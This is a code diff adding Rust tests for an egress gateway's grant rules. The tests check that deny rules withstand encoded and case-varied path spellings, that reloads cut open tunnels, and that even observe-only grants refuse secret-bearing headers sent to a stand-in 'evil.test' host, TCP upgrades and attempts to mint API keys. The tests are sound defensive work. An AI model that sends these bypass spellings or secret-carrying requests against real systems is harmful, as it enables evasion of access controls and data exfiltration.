@@ -7,14 +7,18 @@ use harness::{Case, case};
 use serde_json::{Value, json};
 use standin::{Fault, Rule};
 
-use super::base::{GATEWAY, Wire, get, holds, post};
-use super::reload::reload;
+use super::base::{GATEWAY, REAL, Wire, get, holds, post, there};
+use super::reload::{reload, without};
 
 pub(super) const CASES: &[Case] = &[
     case("wire::grants::a_line_keeps_what_a_grant_can_be_chosen_by", kept).needs(GATEWAY),
     case("wire::grants::only_the_keys_of_the_query_that_a_grant_names_go_out", query).needs(GATEWAY),
     case("wire::grants::what_lacks_a_header_that_a_grant_wants_goes_nowhere", headers).needs(GATEWAY),
     case("wire::grants::a_body_that_is_too_large_is_refused_declared_or_counted", size).needs(GATEWAY),
+    case("wire::grants::a_denial_holds_whatever_is_granted_and_in_every_spelling", denied).needs(GATEWAY),
+    case("wire::grants::a_reload_that_denies_cuts_what_is_under_way", denied_late).needs(GATEWAY),
+    case("wire::grants::what_is_only_observed_passes_and_is_written_down_as_refused", observed).needs(GATEWAY),
+    case("wire::grants::what_is_only_observed_passes_no_guard", guarded).needs(GATEWAY),
     case("wire::grants::a_reload_that_takes_a_key_of_the_query_away_cuts_what_has_it", cut).needs(GATEWAY),
 ];
 
@@ -97,6 +101,112 @@ fn size() -> Result<()> {
     wire.house.wait_line("the refusal of the declared one", |line| {
         line["kind"] == "refused" && line["path"] == "/declared"
     })?;
+    Ok(())
+}
+
+/// One grant more, at the end.
+fn more(wire: &Wire, keys: &str) -> Result<()> {
+    reload(wire, |text| format!("{text}\n[[grant]]\n{keys}\n"))
+}
+
+fn denied() -> Result<()> {
+    let wire = Wire::start()?;
+    wire.answer_all();
+    more(&wire, "name = \"no-admin\"\ndeny = true\nhosts = \"*.test\"\npaths = \"/admin\"")?;
+    more(&wire, "name = \"no-force\"\ndeny = true\nhosts = \"open.test\"\nquery = \"force\"")?;
+    ensure!(told(&wire, &get("open.test", "/administration?enforce=1", ""))?.0 == 200);
+    wire.standin.forget();
+    for (path, denial) in [
+        ("/admin", "no-admin"),
+        ("/ADMIN/x", "no-admin"),
+        ("/x/%2e%2e/admin", "no-admin"),
+        ("//admin;x/y", "no-admin"),
+        ("/x?a=1&f%6frce=1", "no-force"),
+        ("/x?a=1;Force", "no-force"),
+    ] {
+        let (status, reason, hint) = told(&wire, &get("open.test", path, ""))?;
+        ensure!(status == 403 && reason == "denied", "{path}: {status} {reason}");
+        ensure!(hint.contains(&format!("grant {denial:?} denies it")), "{path}: {hint}");
+    }
+    // A grant with a secret is no way round, nor is plain http.
+    let answer = wire.inside("api.test")?.ask(&get("api.test", "/admin", ""))?;
+    ensure!(answer.reason() == Some("denied"), "{answer:?}");
+    let answer = wire.plain("GET http://open.test/admin", "Host: open.test\r\n", "")?;
+    ensure!(answer.reason() == Some("denied"), "{answer:?}");
+    ensure!(wire.standin.seen().is_empty(), "{:?}", wire.standin.seen());
+    let line = wire.house.wait_line("its line", |line| line["reason"] == "denied" && line["path"] == "/admin")?;
+    ensure!(line["kind"] == "refused" && line["grant"] == "no-admin" && line["verdict"] == "refuse", "{line}");
+    Ok(())
+}
+
+fn denied_late() -> Result<()> {
+    let wire = Wire::start()?;
+    wire.standin.rules(vec![Rule::new("", Fault::Hang(Duration::from_secs(20)))]);
+    let mut waits = wire.inside("open.test")?;
+    waits.send(&get("open.test", "/waits", ""))?;
+    wire.house.wait_line("the request", |line| line["path"] == "/waits")?;
+    more(&wire, "name = \"closed\"\ndeny = true\nhosts = \"open.test\"")?;
+    let answer = waits.response()?;
+    ensure!(answer.status == 403 && answer.reason() == Some("grant-withdrawn"), "{answer:?}");
+    let ended =
+        wire.house.wait_line("the end of its tunnel", |line| line["kind"] == "closed" && line["ended"] == "cut")?;
+    ensure!(ended["reason"] == "grant-withdrawn", "{ended}");
+    Ok(())
+}
+
+fn observed() -> Result<()> {
+    let wire = with("methods = \"GET\"")?;
+    let dial = there(&wire.standin);
+    more(&wire, &format!("name = \"watch\"\nobserve = true\nhosts = \"open.test\"\n{dial}"))?;
+    more(&wire, "name = \"tried\"\nobserve = true\ndeny = true\nhosts = \"open.test\"\npaths = \"/tried\"")?;
+    for (request, path, grant, observed) in [
+        (get("open.test", "/granted", ""), "/granted", "open", Value::Null),
+        (post("open.test", "/watched", "", "x"), "/watched", "watch", json!({"reason": "no-grant", "grant": "watch"})),
+        (get("open.test", "/tried", ""), "/tried", "open", json!({"reason": "denied", "grant": "tried"})),
+    ] {
+        ensure!(told(&wire, &request)?.0 == 200, "{path}");
+        let (line, _) = wire.closed(path)?;
+        ensure!(line["verdict"] == "allow" && line["grant"] == grant && line["observed"] == observed, "{line}");
+    }
+    let story = wire.house.gateway(&["ledger", "tail", "--story"])?;
+    ensure!(holds(&story.stdout, "(would be refused: no-grant)"), "{story:?}");
+    let check = wire.house.gateway(&["check"])?;
+    ensure!(holds(&check.stdout, "1 denial, 2 of them only observed"), "{check:?}");
+    Ok(())
+}
+
+fn guarded() -> Result<()> {
+    let wire = Wire::start()?;
+    wire.answer_all();
+    let dial = there(&wire.standin);
+    let hosts = "[\"api.anthropic.com\", \"evil.test\"]";
+    reload(&wire, |text| {
+        let text = without(text, "open");
+        format!(
+            "{text}\n[[grant]]\nname = \"watch\"\nobserve = true\nhosts = {hosts}\n{dial}\n[[grant]]\nname = \"screened\"\nobserve = true\nhosts = \"*.localhost\"\n"
+        )
+    })?;
+    let sentinel = format!("x-note: {}\r\n", wire.sentinel()?);
+    let real = format!("x-note: {REAL}\r\n");
+    let fetch = r#"{"model":"m","messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#;
+    let kind = "Content-Type: application/json\r\n";
+    for (host, request, reason) in [
+        (
+            "api.anthropic.com",
+            post("api.anthropic.com", "/api/oauth/claude_cli/create_api_key", kind, "{}"),
+            "durable-credential",
+        ),
+        ("api.anthropic.com", post("api.anthropic.com", "/v1/messages", kind, fetch), "provider-egress"),
+        ("evil.test", get("evil.test", "/x", &sentinel), "sentinel-astray"),
+        ("evil.test", get("evil.test", "/x", &real), "secret-outbound"),
+        ("evil.test", get("evil.test", "/x", "Connection: upgrade\r\nUpgrade: tcp\r\n"), "upgrade-refused"),
+        ("a.localhost", get("a.localhost", "/x", ""), "address-refused"),
+    ] {
+        let answer = wire.inside(host)?.ask(&request)?;
+        ensure!(answer.reason() == Some(reason), "{host} {reason}: {answer:?}");
+    }
+    ensure!(wire.inside("evil.test")?.ask(&get("evil.test", "/kept", "authorization: mine\r\n"))?.status == 200);
+    ensure!(!holds(&wire.upstream(), "authorization: mine"), "what is observed keeps no credential");
     Ok(())
 }
 
